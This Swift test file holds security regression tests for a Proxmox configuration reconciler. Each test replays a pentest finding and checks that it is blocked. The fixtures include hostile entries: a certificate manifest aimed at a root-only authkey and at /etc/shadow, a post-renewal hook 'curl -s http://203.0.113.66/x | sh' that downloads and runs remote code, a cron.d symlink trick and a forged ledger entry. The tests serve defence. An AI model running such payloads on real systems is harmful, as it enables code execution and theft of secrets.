import Foundation
import PhoenixDrivers
import PhoenixEngine
import PhoenixReconciler
import PhoenixStages
import PhoenixTesting
import Testing

/// Issue #12: the findings of the penetration test (`docs/reviews/security.md`) that concern paths,
/// repository commands, secrets and the ledger, each reproduced end to end through the reconciler, a
/// real config repository (pushed to as on a forge, no hook) and a local target or the Proxmox driver.
@Suite struct SecurityRegressionTests {
    static let share = "/quickOS/portainer_stacks"

    /// A self-signed certificate for `cn` (DNS SAN `cn`), made with openssl, at `cert` with its key at `key`;
    /// valid for ten years, so it is valid at the fixture's clock (2027-01-15) and needs no renewal.
    static func certificate(cn: String, cert: String, key: String) throws {
        try FileManager.default.createDirectory(
            atPath: (cert as NSString).deletingLastPathComponent, withIntermediateDirectories: true)
        try TestProcess.check(
            "openssl",
            [
                "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes", "-days", "3650",
                "-subj", "/CN=\(cn)", "-addext", "subjectAltName=DNS:\(cn)", "-keyout", key, "-out", cert,
            ])
    }

    static func write(_ path: String, _ text: String, mode: Int = 0o644) throws {
        try FileManager.default.createDirectory(
            atPath: (path as NSString).deletingLastPathComponent, withIntermediateDirectories: true)
        try Data(text.utf8).write(to: URL(fileURLWithPath: path))
        try FileManager.default.setAttributes([.posixPermissions: mode], ofItemAtPath: path)
    }

    // MARK: - H1, H2: certificate entries

    /// The H1 entry: a valid certificate already on the host, and the key path a root-only file.
    static let exfiltration = """
        [{"common_name": "pve1.lab.phoenix.test", "sans": ["pve1.lab.phoenix.test"], "guest_id": 101, "guest_type": "lxc",
          "cert_path": "/etc/pve/local/pve-ssl.pem", "key_path": "/etc/pve/priv/authkey.key",
          "owner": "nobody", "permissions": "0644"}]

        """

    /// H1: an entry whose `cert_path` names a valid certificate on the host and whose `key_path` names a
    /// root-only file made the stage copy that file into a guest, world-readable.
    @Test func h1AnEntryCannotCopyARootOnlyHostFileIntoAGuest() async throws {
        let fixture = try EngineFixture()
        var files = TestConfig.files()
        files["config/certificate-manifest.json"] = Self.exfiltration
        try fixture.push(files, message: "trust pve cert in the gateway")
        let target = fixture.targetRoot("state").path
        try Self.certificate(
            cn: "pve1.lab.phoenix.test", cert: target + "/etc/pve/local/pve-ssl.pem", key: target + "/etc/pve/local/k.pem")
        try Self.write(target + "/etc/pve/priv/authkey.key", "HOST-ROOT-ONLY-SECRET cluster authkey\n", mode: 0o600)

        let reconciler = Reconciler(fixture.configuration(catalogue: StageCatalogue([CertificatesStage()])))
        _ = await reconciler.reconcile(triggers: [RunTrigger(.apply)])

        #expect(!FileManager.default.fileExists(atPath: target + "/lxc/101/etc/pve/priv/authkey.key"))
        #expect(!FileManager.default.fileExists(atPath: target + "/lxc/101/etc/pve/local/pve-ssl.pem"))
        let state = try #require(try fixture.state())
        let last = try #require(state.stage(.certificates).lastResult)
        #expect(last.result == .failed)
        #expect(last.message?.contains("outside the certificate roots") == true, "\(last.message ?? "")")
    }

    /// H1 on the Proxmox driver: nothing is pulled from the host or pushed with `pct push`.
    @Test func h1OnProxmoxNothingIsPushedIntoTheGuest() async throws {
        let fixture = try EngineFixture()
        var files = TestConfig.files()
        files["config/certificate-manifest.json"] = Self.exfiltration
        try fixture.push(files, message: "trust pve cert in the gateway")
        let host = try StandInHost()
        defer { host.remove() }
        try host.setGuest(.lxc(101), .running)
        try Self.certificate(
            cn: "pve1.lab.phoenix.test", cert: host.hostRoot + "/etc/pve/local/pve-ssl.pem",
            key: host.hostRoot + "/etc/pve/local/k.pem")
        try Self.write(host.hostRoot + "/etc/pve/priv/authkey.key", "HOST-ROOT-ONLY-SECRET cluster authkey\n", mode: 0o600)
        var configuration = fixture.configuration(catalogue: StageCatalogue([CertificatesStage()]))
        configuration.driver = host.proxmoxDriver()
        _ = await Reconciler(configuration).reconcile(triggers: [RunTrigger(.apply)])
        let calls = try host.calls().map(\.commandLine)
        #expect(!calls.contains { $0.first == "pct" && $0.dropFirst().first == "push" }, "\(calls)")
        #expect(host.file("/etc/pve/priv/authkey.key", at: .lxc(101)) == nil)
        #expect(try fixture.state()?.stage(.certificates).lastResult?.result == .failed)
    }

    /// H2: an entry naming `/etc/passwd` and `/etc/shadow` with a hook made the stage run `step --force`
    /// and `chmod 0666` over both and the hook through `sh -c`, all as root.
    @Test func h2AnEntryCannotRunStepChmodOrAHookOnHostFiles() async throws {
        let fixture = try EngineFixture()
        var files = TestConfig.files()
        files["config/certificate-manifest.json"] = """
            [{"common_name": "innocent.lab.phoenix.test", "sans": [], "guest_id": 101, "guest_type": "lxc",
              "cert_path": "/etc/passwd", "key_path": "/etc/shadow", "owner": "root:root", "permissions": "0666",
              "post_renewal_command": "curl -s http://203.0.113.66/x | sh"}]

            """
        try fixture.push(files, message: "add cert")
        let target = fixture.targetRoot("state").path
        try Self.write(target + "/etc/shadow", "root:*:19000:0:99999:7:::\n", mode: 0o600)
        let reconciler = Reconciler(fixture.configuration(catalogue: StageCatalogue([CertificatesStage()])))
        _ = await reconciler.reconcile(triggers: [RunTrigger(.apply)])

        let journal = try LocalDriver(root: target, checks: []).journal().map(\.argv)
        #expect(!journal.contains { $0.first == "step" || $0.first == "chmod" || $0.first == "sh" || $0.first == "mkdir" }, "\(journal)")
        #expect(FileManager.default.contents(atPath: target + "/etc/shadow") == Data("root:*:19000:0:99999:7:::\n".utf8))
        let state = try #require(try fixture.state())
        #expect(state.stage(.certificates).lastResult?.result == .failed)
    }

    /// H2: inside the roots, a `post_renewal_command` runs only when the settings allow it.
    @Test func h2AHookRunsOnlyWhenTheSettingsAllowIt() async throws {
        for allowed in [false, true] {
            let fixture = try EngineFixture()
            var files = TestConfig.files()
            files["config/certificate-manifest.json"] = """
                [{"common_name": "web.lab.test", "sans": [], "cert_path": "/quickOS/vm-persistent-data/1001/web.crt",
                  "key_path": "/quickOS/vm-persistent-data/1001/web.key", "post_renewal_command": "curl -s http://203.0.113.66/x | sh"}]

                """
            try fixture.push(files, message: "add cert")
            var settings = fixture.settings()
            if allowed { settings.stages.allowedPostRenewalCommands = ["curl -s http://203.0.113.66/* | sh"] }
            let reconciler = Reconciler(fixture.configuration(settings: settings, catalogue: StageCatalogue([CertificatesStage()])))
            let result = await reconciler.reconcile(triggers: [RunTrigger(.apply)])
            #expect(result.outcome == .finished(.succeeded))
            let journal = try LocalDriver(root: fixture.targetRoot("state").path, checks: []).journal().map(\.argv)
            #expect(journal.contains { $0.first == "step" })  // the certificate is issued either way
            #expect(journal.contains(["sh", "-c", "curl -s http://203.0.113.66/x | sh"]) == allowed, "\(journal)")
            if !allowed {
                let status = try fixture.statusJSON()
                let stages = ((status["run"] as? [String: Any])?["stages"] as? [[String: Any]]) ?? []
                let notes = stages.flatMap { ($0["notes"] as? [String]) ?? [] }
                #expect(notes.contains { $0.contains("post_renewal_command of web.lab.test not run") }, "\(notes)")
            }
        }
    }

    // MARK: - M5: symlinks in the stacks share

    /// The stack-files scenario of M5 on any driver whose host files live under `base`.
    static func symlinkedShareScenario(_ fixture: EngineFixture, base: String, driver: (any HostDriver)?) async throws {
        var files = TestConfig.files()
        files["stacks/vector_db/docker-compose.yml"] = "services:\n  qdrant:\n    image: qdrant/qdrant\n"
        files["stacks/vector_db/phoenix.json"] = "{}\n"
        try fixture.push(files, message: "a stack")
        var configuration = fixture.configuration(catalogue: StageCatalogue([StackFilesStage()]))
        if let driver { configuration.driver = driver }
        let reconciler = Reconciler(configuration)
        #expect(await reconciler.reconcile(triggers: [RunTrigger(.apply)]).outcome == .finished(.succeeded))
        #expect(FileManager.default.fileExists(atPath: base + share + "/vector_db/phoenix.json"))

        // Whoever can write the NFS share replaces the stack folder with a link to a host folder.
        try Self.write(base + "/etc/cron.d/backup", "0 3 * * * root /usr/local/bin/backup\n")
        try Self.write(base + "/etc/cron.d/phoenix.json", "legit host file\n")
        try FileManager.default.removeItem(atPath: base + share + "/vector_db")
        try FileManager.default.createSymbolicLink(atPath: base + share + "/vector_db", withDestinationPath: "../../etc/cron.d")

        try fixture.push(["stacks/vector_db/docker-compose.yml": "services:\n  qdrant:\n    image: qdrant/qdrant\n# tweak\n"], message: "tweak")
        _ = await reconciler.reconcile(triggers: [RunTrigger(.apply)])
        #expect(!FileManager.default.fileExists(atPath: base + "/etc/cron.d/docker-compose.yml"))
        #expect(FileManager.default.contents(atPath: base + "/etc/cron.d/phoenix.json") == Data("legit host file\n".utf8))
        let state = try #require(try fixture.state())
        #expect(state.stage(.stackFiles).lastResult?.result == .failed)

        try fixture.push(["stacks/vector_db/phoenix.json": nil], message: "drop manifest")
        _ = await reconciler.reconcile(triggers: [RunTrigger(.apply)])
        #expect(FileManager.default.contents(atPath: base + "/etc/cron.d/phoenix.json") == Data("legit host file\n".utf8))
        #expect(FileManager.default.fileExists(atPath: base + "/etc/cron.d/backup"))
    }

    @Test func m5StackFilesNeverWritesOrDeletesThroughASymlinkedShareFolderLocally() async throws {
        let fixture = try EngineFixture()
        try await Self.symlinkedShareScenario(fixture, base: fixture.targetRoot("state").path, driver: nil)
    }

    @Test func m5StackFilesNeverWritesOrDeletesThroughASymlinkedShareFolderOnProxmox() async throws {
        let fixture = try EngineFixture()
        let host = try StandInHost()
        defer { host.remove() }
        try await Self.symlinkedShareScenario(fixture, base: host.hostRoot, driver: host.proxmoxDriver())
        #expect(try host.calls().isEmpty)  // host files only: no pct, no qm
    }

    // MARK: - M6: a forged status branch and a lost state.json

    @Test func m6AForgedLedgerEntryNeverDeletesAHostFile() async throws {
        let fixture = try EngineFixture()
        try fixture.pushBaseConfig()
        let reconciler = fixture.reconciler()
        #expect(await reconciler.reconcile(triggers: [RunTrigger(.apply)]).outcome == .finished(.succeeded))
        let target = fixture.targetRoot("state").path
        let secret = "IMPORTANT HOST FILE\n"
        try Self.write(target + "/etc/pve/priv/authkey.key", secret, mode: 0o600)

        // Someone who can push to the status branch adds the file to a stage's applied files, with its
        // real digest, so that only the ledger's word stands between it and a removal.
        let forger = try GitCLI.initRepository(at: fixture.scratch.path("forger"))
        try forger.run("fetch", "-q", fixture.remote.path, "phoenix-status")
        try forger.run("checkout", "-q", "FETCH_HEAD")
        let statusFile = forger.directory.appendingPathComponent("status.json")
        var document = try #require(try JSONSerialization.jsonObject(with: Data(contentsOf: statusFile)) as? [String: Any])
        var watchers = try #require(document["watchers"] as? [[String: Any]])
        var stages = try #require(watchers[0]["stages"] as? [[String: Any]])
        let names = try #require(stages.firstIndex { $0["stage"] as? String == "names" })
        var artifacts = (stages[names]["artifacts"] as? [[String: Any]]) ?? []
        artifacts.append([
            "location": "host", "path": "/etc/pve/priv/authkey.key", "kind": "file",
            "sha256": Artifact.sha256(Data(secret.utf8)),
        ])
        stages[names]["artifacts"] = artifacts
        watchers[0]["stages"] = stages
        document["watchers"] = watchers
        try JSONSerialization.data(withJSONObject: document, options: [.prettyPrinted]).write(to: statusFile)
        try forger.run("commit", "-q", "-am", "forged")
        try forger.run("push", "-q", fixture.remote.path, "HEAD:refs/heads/phoenix-status")

        // A change that makes `names` apply again, on a host whose state.json was lost.
        try fixture.push(["config/phoenix_lxc_configs.json": TestConfig.lxcs(names: [(101, "gw2", "10.0.0.5/24")])], message: "rename")
        try FileManager.default.removeItem(at: fixture.stateDirectory("state").appendingPathComponent("state.json"))
        let result = await fixture.reconciler().reconcile(triggers: [RunTrigger(.apply)])
        #expect(result.outcome == .finished(.succeeded))
        #expect(FileManager.default.contents(atPath: target + "/etc/pve/priv/authkey.key") == Data(secret.utf8))
        #expect(fixture.targetFiles()["/etc/phoenix-test/names.conf"] == "101 gw2\n")
        // Once the stage applied from this watcher's own render, its records are trusted again.
        let state = try #require(try fixture.state())
        #expect(state.stage("names").artifactsFromLedger == false)
        #expect(!state.stage("names").artifacts.contains { $0.path == "/etc/pve/priv/authkey.key" })
    }

    // MARK: - M3: drift contents never leave the host

    @Test func m3DriftedContentIsNeverStoredOrPublished() async throws {
        let fixture = try EngineFixture()
        try fixture.pushBaseConfig()
        let reconciler = fixture.reconciler()
        #expect(await reconciler.reconcile(triggers: [RunTrigger(.apply)]).outcome == .finished(.succeeded))
        let target = fixture.targetRoot("state").path
        // An operator rotates a password on the host: the value never enters git.
        try Self.write(target + "/etc/phoenix-test/names.conf", "101 gw\nDATABASE_PASS=ROTATED-BY-OPS-NEWPASS\nnote ROTATED-BY-OPS-NEWPASS\n")

        let outcome = await reconciler.checkDrift()
        let report = try #require(outcome.report)
        let item = try #require(report.stage("names")?.items.first)
        #expect(item.foundSHA256 == Artifact.sha256(try Data(contentsOf: URL(fileURLWithPath: target + "/etc/phoenix-test/names.conf"))))
        #expect(item.appliedSHA256 == Artifact.sha256(Data("101 gw\n".utf8)))
        // The terminal of whoever runs `drift` gets the diff, redacted where a secret is named.
        let diff = try #require(item.diff)
        #expect(diff.contains("+DATABASE_PASS=<redacted>"))

        // Nothing of the content in state.json, on the status branch or in what /status shows.
        _ = await reconciler.reconcile(triggers: [RunTrigger(.apply)])  // publishes pending records
        let stateText = String(decoding: try #require(fixture.stateBytes()), as: UTF8.self)
        #expect(!stateText.contains("ROTATED"))
        #expect(stateText.contains(item.foundSHA256 ?? "-"))
        let branch = try fixture.remoteGit.run("log", "-p", "phoenix-status")
        #expect(!branch.contains("ROTATED"))
        #expect(branch.contains("found_sha256"))
        let last = try #require(try fixture.state()?.drift?.lastCheck)
        #expect(last.stage("names")?.items.first?.diff == nil)
    }

    // MARK: - L4: private state

    @Test func l4StateLockAndMirrorArePrivate() async throws {
        let fixture = try EngineFixture()
        try fixture.pushBaseConfig()
        #expect(await fixture.reconciler().reconcile(triggers: [RunTrigger(.apply)]).outcome == .finished(.succeeded))
        let state = fixture.stateDirectory("state").path
        func mode(_ path: String) -> Int? {
            ((try? FileManager.default.attributesOfItem(atPath: path))?[.posixPermissions] as? NSNumber)?.intValue
        }
        #expect(mode(state) == 0o700)
        #expect(mode(state + "/state.json") == 0o600)
        #expect(mode(state + "/lock") == 0o600)
        #expect(mode(state + "/mirror.git") == 0o700)
    }
}
